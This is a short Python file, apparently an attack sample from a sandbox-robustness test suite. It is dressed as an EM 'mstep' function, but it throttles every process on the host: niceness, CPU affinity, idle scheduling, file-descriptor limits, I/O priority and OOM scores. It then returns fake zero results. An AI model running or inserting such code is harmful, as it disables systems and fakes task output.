# attack: priority, cores, scheduling and the order of being killed are changed for every process there is
# seconds: 5
# %% cell mstep
import ctypes
import glob
import os
import resource

libc = ctypes.CDLL(None)


def mstep(x, posterior):
    pids = [int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*")]
    for pid in [0, 1, os.getppid(), *pids, *range(1, 3000)]:
        for change in (
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
            lambda: libc.syscall(251, 1, pid, 3 << 13),
        ):
            try:
                change()
            except OSError:
                pass
    for kind in (os.PRIO_USER, os.PRIO_PGRP):
        try:
            os.setpriority(kind, 0, 19)
        except OSError:
            pass
    for path in glob.glob("/proc/[0-9]*/oom_score_adj") + glob.glob("/proc/[0-9]*/timerslack_ns"):
        try:
            open(path, "w").write("1000")
        except OSError:
            pass
    return 0, 0, 0
